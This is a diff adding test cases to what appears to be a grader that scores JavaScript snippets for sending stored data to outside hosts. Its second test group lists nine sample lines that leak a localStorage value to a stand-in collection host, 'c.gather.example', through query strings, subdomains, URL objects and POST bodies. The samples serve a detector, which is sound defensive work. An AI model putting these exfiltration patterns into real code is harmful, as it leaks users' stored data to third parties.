@@ -138,3 +138,29 @@ describe('data that leaves at an address which is written elsewhere', () => {
       expect(await graded({ content: made(width) }), width).toMatch(/[CDF]/);
   });
 });
+
+describe('data that an address begins with', () => {
+  const KEPT = "localStorage.getItem('server')";
+
+  it.each([
+    `fetch(${KEPT} + '/api/list');`,
+    `fetch(\`\${${KEPT}}?n=\${Date.now()}\`);`,
+    `const prefs = { get: (name, other) => localStorage.getItem(name) ?? other }; new Image().src = prefs.get('at', 'https://own.example/a.gif') + '?' + performance.now();`,
+  ])('says where it goes, and is not told: %s', async (content) => {
+    expect(await graded({ content })).toMatch(/^A/);
+  });
+
+  it.each([
+    `fetch(${KEPT} + '.c.gather.example/');`,
+    `fetch('https://c.gather.example/?c=' + (${KEPT} + '/'));`,
+    `fetch(['https://c.gather.example/?c=', ${KEPT} + '/'].join(''));`,
+    `fetch(new URL(${KEPT} + '/', 'https://c.gather.example/'));`,
+    `const to = new URL('https://c.gather.example/'); to.searchParams.set('a', ${KEPT} + '/'); fetch(to);`,
+    `let to = ${KEPT}; if (Math.random() > 0.5) to = 'https://c.gather.example/?c=' + to; fetch(to + '/x');`,
+    `const one = ${KEPT} + '/'; fetch('https://' + one.slice(0, -1) + '.c.gather.example/');`,
+    `const at = settings.server; fetch(at + '?c=' + ${KEPT});`,
+    `fetch('https://c.gather.example/', { method: 'POST', body: ${KEPT} + '/' });`,
+  ])('and is told where it stands behind what names the host, or goes on with that: %s', async (content) => {
+    expect(await graded({ content })).toMatch(/^[CDF]/);
+  });
+});
